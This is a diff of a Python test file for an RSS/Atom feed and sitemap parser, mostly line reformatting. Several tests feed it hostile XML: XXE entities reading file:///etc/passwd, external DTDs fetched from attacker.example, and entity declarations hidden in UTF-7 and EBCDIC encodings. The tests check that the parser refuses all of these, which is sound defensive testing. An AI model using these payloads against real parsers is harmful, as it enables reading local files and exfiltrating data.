@@ -81,6 +81,7 @@ def _refused(call, reason: str) -> DiscoveryError:
 
 # --- feeds ---------------------------------------------------------------------------------
 
+
 def test_rss_links_resolved_deduplicated_in_order() -> None:
     assert feed_entry_urls(RSS, BASE) == (
         "https://news.example.com/world/one",
@@ -98,11 +99,16 @@ def test_atom_alternate_links_and_xml_base() -> None:
 
 
 def test_relative_links_against_the_feed_url() -> None:
-    feed = (b'<rss version="2.0"><channel><title>t</title>'
-            b"<item><link>story-1.html</link></item><item><link>../sport/story-2</link></item>"
-            b"<item><link>//cdn.example.net/x</link></item></channel></rss>")
+    feed = (
+        b'<rss version="2.0"><channel><title>t</title>'
+        b"<item><link>story-1.html</link></item><item><link>../sport/story-2</link></item>"
+        b"<item><link>//cdn.example.net/x</link></item></channel></rss>"
+    )
     assert feed_entry_urls(feed, "https://ex.com/news/feed.xml") == (
-        "https://ex.com/news/story-1.html", "https://ex.com/sport/story-2", "https://cdn.example.net/x")
+        "https://ex.com/news/story-1.html",
+        "https://ex.com/sport/story-2",
+        "https://cdn.example.net/x",
+    )
 
 
 def test_empty_valid_feed_gives_nothing() -> None:
@@ -115,31 +121,41 @@ def test_billion_laughs_refused_fast() -> None:
     assert time.perf_counter() - start < 0.2
 
 
-@pytest.mark.parametrize("encode", [
-    lambda doc: doc.encode("utf-16"),
-    lambda doc: doc.replace('encoding="utf-8"', 'encoding="cp037"').encode("cp037"),  # EBCDIC
-    lambda doc: doc.replace('encoding="utf-8"', 'encoding="utf-7"').replace("<!", "+ADwAIQ-").encode("ascii"),
-])
+@pytest.mark.parametrize(
+    "encode",
+    [
+        lambda doc: doc.encode("utf-16"),
+        lambda doc: doc.replace('encoding="utf-8"', 'encoding="cp037"').encode("cp037"),  # EBCDIC
+        lambda doc: doc.replace('encoding="utf-8"', 'encoding="utf-7"').replace("<!", "+ADwAIQ-").encode("ascii"),
+    ],
+)
 def test_declarations_refused_in_any_encoding(encode) -> None:
-    doc = ('<?xml version="1.0" encoding="utf-8"?><!DOCTYPE rss [<!ENTITY x "EXPANDED">]>'
-           '<rss version="2.0"><channel><title>t</title><item><link>https://ex.com/&x;</link></item></channel></rss>')
+    doc = (
+        '<?xml version="1.0" encoding="utf-8"?><!DOCTYPE rss [<!ENTITY x "EXPANDED">]>'
+        '<rss version="2.0"><channel><title>t</title><item><link>https://ex.com/&x;</link></item></channel></rss>'
+    )
     _refused(lambda: feed_entry_urls(encode(doc), BASE), reasons.PARSE_ERROR)
 
 
 def test_external_entity_feed_refused() -> None:
-    feed = (b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
-            b'<rss version="2.0"><channel><title>t</title><item><link>https://ex.com/&xxe;</link></item>'
-            b"</channel></rss>")
+    feed = (
+        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+        b'<rss version="2.0"><channel><title>t</title><item><link>https://ex.com/&xxe;</link></item>'
+        b"</channel></rss>"
+    )
     _refused(lambda: feed_entry_urls(feed, BASE), reasons.PARSE_ERROR)
 
 
-@pytest.mark.parametrize("data", [
-    b"",
-    b"this is not xml at all",
-    b"<rss><channel><item><link>https://ex.com/a</lin",  # broken, and no entry link survives
-    b"<html><head><title>404</title></head><body>Not found</body></html>",  # well-formed, not a feed
-    b"\x89PNG\r\n\x1a\n\x00\x00",
-])
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"",
+        b"this is not xml at all",
+        b"<rss><channel><item><link>https://ex.com/a</lin",  # broken, and no entry link survives
+        b"<html><head><title>404</title></head><body>Not found</body></html>",  # well-formed, not a feed
+        b"\x89PNG\r\n\x1a\n\x00\x00",
+    ],
+)
 def test_unreadable_feeds_are_parse_errors(data: bytes) -> None:
     _refused(lambda: feed_entry_urls(data, BASE), reasons.PARSE_ERROR)
 
@@ -156,10 +172,14 @@ def test_a_file_name_is_not_opened() -> None:
 
 # --- sitemaps ------------------------------------------------------------------------------
 
+
 def test_urlset() -> None:
     assert sitemap_entries(URLSET, SITEMAP_BASE, CAP) == SitemapEntries(
-        page_urls=("https://news.example.com/world/one", "https://news.example.com/world/two",
-                   "https://news.example.com/world/three"),
+        page_urls=(
+            "https://news.example.com/world/one",
+            "https://news.example.com/world/two",
+            "https://news.example.com/world/three",
+        ),
         sitemap_urls=(),
     )
 
@@ -167,8 +187,10 @@ def test_urlset() -> None:
 def test_sitemap_index() -> None:
     assert sitemap_entries(SITEMAP_INDEX, SITEMAP_BASE, CAP) == SitemapEntries(
         page_urls=(),
-        sitemap_urls=("https://news.example.com/sitemap-2024-05.xml.gz",
-                      "https://news.example.com/sitemap-2024-04.xml"),
+        sitemap_urls=(
+            "https://news.example.com/sitemap-2024-05.xml.gz",
+            "https://news.example.com/sitemap-2024-04.xml",
+        ),
     )
 
 
@@ -203,24 +225,29 @@ def test_plain_sitemap_over_the_cap_refused() -> None:
     _refused(lambda: sitemap_entries(URLSET, SITEMAP_BASE, 100), reasons.TOO_LARGE)
 
 
-@pytest.mark.parametrize("data", [
-    b"<urlset><url><loc>https://ex.com/a</loc></url>",  # unclosed
-    b"<urlset><url><loc>https://ex.com/a</loc></url></urlset><extra/>",
-    b"<?xml version='1.0'?><urlset><url><loc>a & b</loc></url></urlset>",
-    b"<html><body>Sitemap moved</body></html>",  # well-formed, but not a sitemap
-])
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"<urlset><url><loc>https://ex.com/a</loc></url>",  # unclosed
+        b"<urlset><url><loc>https://ex.com/a</loc></url></urlset><extra/>",
+        b"<?xml version='1.0'?><urlset><url><loc>a & b</loc></url></urlset>",
+        b"<html><body>Sitemap moved</body></html>",  # well-formed, but not a sitemap
+    ],
+)
 def test_malformed_sitemap_is_parse_error(data: bytes) -> None:
     _refused(lambda: sitemap_entries(data, SITEMAP_BASE, CAP), reasons.PARSE_ERROR)
 
 
-@pytest.mark.parametrize("data", [
-    b'<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
-    b"<urlset><url><loc>https://ex.com/&xxe;</loc></url></urlset>",
-    b'<?xml version="1.0"?><!DOCTYPE urlset SYSTEM "http://attacker.example/evil.dtd">'
-    b"<urlset><url><loc>https://ex.com/a</loc></url></urlset>",
-    b'<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>'
-    b"<urlset/>",
-])
+@pytest.mark.parametrize(
+    "data",
+    [
+        b'<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+        b"<urlset><url><loc>https://ex.com/&xxe;</loc></url></urlset>",
+        b'<?xml version="1.0"?><!DOCTYPE urlset SYSTEM "http://attacker.example/evil.dtd">'
+        b"<urlset><url><loc>https://ex.com/a</loc></url></urlset>",
+        b'<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><urlset/>',
+    ],
+)
 def test_external_entity_sitemap_refused(data: bytes) -> None:
     _refused(lambda: sitemap_entries(data, SITEMAP_BASE, CAP), reasons.PARSE_ERROR)
     _refused(lambda: sitemap_entries(gzip.compress(data), SITEMAP_BASE, CAP), reasons.PARSE_ERROR)
@@ -236,9 +263,13 @@ def test_billion_laughs_sitemap_refused_fast() -> None:
 def test_plain_text_sitemap() -> None:
     data = b"https://ex.com/a\r\n\r\nhttps://ex.com/b\nhttps://ex.com/a\n  https://ex.com/c  \nftp://ex.com/d\n"
     assert sitemap_entries(data, SITEMAP_BASE, CAP) == SitemapEntries(
-        ("https://ex.com/a", "https://ex.com/b", "https://ex.com/c"), ())
+        ("https://ex.com/a", "https://ex.com/b", "https://ex.com/c"), ()
+    )
     assert sitemap_entries(gzip.compress(data), SITEMAP_BASE, CAP).page_urls == (
-        "https://ex.com/a", "https://ex.com/b", "https://ex.com/c")
+        "https://ex.com/a",
+        "https://ex.com/b",
+        "https://ex.com/c",
+    )
 
 
 @pytest.mark.parametrize("data", [b"just some words\nand more", b"\xff\xfe\xfa not utf-8 https://ex.com/"])
@@ -249,7 +280,8 @@ def test_text_that_lists_no_url_is_parse_error(data: bytes) -> None:
 def test_empty_sitemap_lists_nothing() -> None:
     assert sitemap_entries(b"", SITEMAP_BASE, CAP) == SitemapEntries((), ())
     assert sitemap_entries(b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"/>', SITEMAP_BASE, CAP) == (
-        SitemapEntries((), ()))
+        SitemapEntries((), ())
+    )
 
 
 def test_feed_given_as_sitemap() -> None:
